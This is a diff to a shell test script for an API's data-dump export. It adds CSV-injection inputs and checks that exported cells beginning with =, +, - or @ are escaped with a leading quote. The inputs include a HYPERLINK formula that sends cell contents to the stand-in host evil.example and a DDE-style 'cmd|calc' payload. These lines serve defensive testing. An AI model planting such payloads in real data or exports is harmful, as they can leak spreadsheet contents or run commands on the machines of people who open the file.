@@ -290,7 +290,15 @@ post "/api/tasks/$T/messages" "{\"content\":\"gh ${secrets[4]} slack ${secrets[5
 # The log, too (as if a module had logged a reply that echoed a key).
 printf '%s ERROR planted: upstream said: invalid key %s (Bearer %s)\n' "$(date -u +%Y-%m-%dT%H:%M:%S.000Z)" \
 	"${secrets[0]}" PLANTEDbearer0008 >>"$DETM_DATA/logs/debug.log"
+# Cells a spreadsheet would run as formulas (CSV injection).
+post /api/tasks "{\"name\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"x\\\")\"}"
+post "/api/tasks/$T/messages" '{"content":"@SUM(1+1)*cmd|calc!A0"}'
+post "/api/tasks/$T/messages" '{"content":"-2+3"}'
 curl -s "${H[@]}" -D "$tmp/dh" -o "$tmp/dump.zip" "$DETM_URL/api/dump?since=$((since - 5))"
+check "dump: CSV cells that start like a formula begin with a quote" sh -c \
+	"unzip -p '$tmp/dump.zip' tasks.csv | grep -qF \"'=HYPERLINK\" && unzip -p '$tmp/dump.zip' messages.csv | grep -qF \"'@SUM\" && unzip -p '$tmp/dump.zip' messages.csv | grep -qF \"'-2+3\""
+check "dump: no CSV cell starts with = + - @" sh -c \
+	"! unzip -p '$tmp/dump.zip' tasks.csv messages.csv | grep -Eq '(^|,)\"?(=HYPERLINK|@SUM|-2\\+3)'"
 check "dump: unzip -t passes" unzip -tqq "$tmp/dump.zip"
 check "dump: detm-dump-<stamp>.zip" grep -Eqi 'filename="detm-dump-[0-9]{8}T[0-9]{6}Z\.zip"' "$tmp/dh"
 mkdir "$tmp/dump"
